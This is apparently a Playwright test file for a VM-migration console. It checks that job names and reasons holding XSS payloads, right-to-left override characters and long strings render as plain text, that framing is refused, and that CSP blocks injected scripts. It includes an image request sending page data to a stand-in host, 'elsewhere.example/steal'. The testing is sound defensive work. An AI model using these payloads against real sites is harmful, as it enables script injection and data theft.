"""What comes from outside is text, and nobody else can use the page."""

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from adapters.simulated_vma import SimulatedVMA
from tests.console.jobs import HOUR
from tests.console.tabs import Tabs, axe_violations, expect_not_framed, framed, rows, wait_until_live
from tests.support.service import ServiceProcess

RIGHT_TO_LEFT = "\u202efdp.exe"
HOSTILE = {
    "html": "<img src=/x onerror=\"document.title='broken'\"><script>document.title='broken'</script>",
    "direction": f"{RIGHT_TO_LEFT} after",
    "long": "L" * 500,
}
REASON = "<b>why</b> " + "R" * 480


@pytest.fixture(scope="module", autouse=True)
def _jobs(vma: SimulatedVMA, service: ServiceProcess) -> None:
    for kind, name in HOSTILE.items():
        vma.world.add_job(kind, [f"disk-{kind}"], duration=HOUR, progress=30)
        service.register(kind, f"disk-{kind}", vm_name=name)
        service.wait_for(kind, vma_status="running")
    service.decide("long", "fail", REASON)


@pytest.fixture
def page(tabs: Tabs) -> Iterator[Page]:
    yield wait_until_live(tabs.open())
    assert tabs.refused == []


def test_a_name_is_text_whatever_is_in_it(page: Page) -> None:
    for name in HOSTILE.values():
        expect(rows(page).filter(has_text=name)).to_have_count(1)
    assert page.locator("main img, main script, main b").count() == 0
    assert "broken" not in page.title()


def test_a_long_name_is_clipped_in_its_row_and_readable_in_full(page: Page) -> None:
    row = rows(page).filter(has_text=HOSTILE["long"])

    expect(row).to_be_visible()
    box = row.bounding_box()
    assert box
    assert box["height"] < 100
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    titles = page.evaluate("[...document.querySelectorAll('[role=option] [title]')].map((one) => one.title)")
    assert any(HOSTILE["long"] in title for title in titles)


def test_a_name_that_is_read_from_the_right_does_not_turn_what_is_beside_it(page: Page) -> None:
    isolated = page.evaluate(
        """(name) => [...document.querySelectorAll('[role=option] *')]
          .filter((one) => one.children.length === 0 && one.textContent.includes(name))
          .every((one) => getComputedStyle(one).unicodeBidi.includes('isolate'))""",
        RIGHT_TO_LEFT,
    )

    assert isolated


@pytest.mark.parametrize("path", ["/jobs/long", "/jobs/html", "/audit", "/audit?job_id=long&actor=<b>%26"])
def test_a_screen_shows_hostile_texts_as_they_are(tabs: Tabs, path: str) -> None:
    page = wait_until_live(tabs.open(path))

    expect(page.locator("main")).to_contain_text("<")
    assert page.locator("main img, main script, main b").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert axe_violations(page) == []


def test_an_operators_reason_is_text_in_the_trail(tabs: Tabs) -> None:
    page = wait_until_live(tabs.open("/audit?type=OperatorDecided"))

    rows(page).filter(has_text="long").click()

    expect(page.get_by_label("Event", exact=True)).to_contain_text(REASON)


def test_no_page_of_the_service_can_frame_the_console(tabs: Tabs) -> None:
    page = tabs.context.new_page()
    page.goto(f"{tabs.url}/livez")

    expect_not_framed(page, tabs.url)

    tabs.faults.clear()


def test_a_page_of_another_site_cannot_frame_the_console(vma: SimulatedVMA, tabs: Tabs) -> None:
    page = tabs.context.new_page()
    page.goto(vma.url)

    inner = framed(page, tabs.url)

    # Without tokens, the service does not even send the page.
    expect(inner.locator("body")).to_contain_text("a page of another site may not call this service")
    expect(inner.locator("#app")).to_have_count(0)
    tabs.faults.clear()


def test_a_script_that_gets_into_the_page_does_not_run(tabs: Tabs) -> None:
    page = wait_until_live(tabs.open())

    page.evaluate(
        """() => {
          const script = document.createElement('script');
          script.textContent = "document.title = 'broken'";
          document.head.append(script);
          document.body.insertAdjacentHTML('beforeend', '<b style="color: red" onclick="alert(1)">x</b>');
          const image = new Image();
          image.src = 'https://elsewhere.example/steal?' + document.title;
          document.body.append(image);
        }"""
    )

    assert "broken" not in page.title()
    forbidden = json.dumps(tabs.faults)
    for directive in ("script-src-elem", "style-src-attr", "img-src"):
        assert directive in forbidden
    tabs.faults.clear()
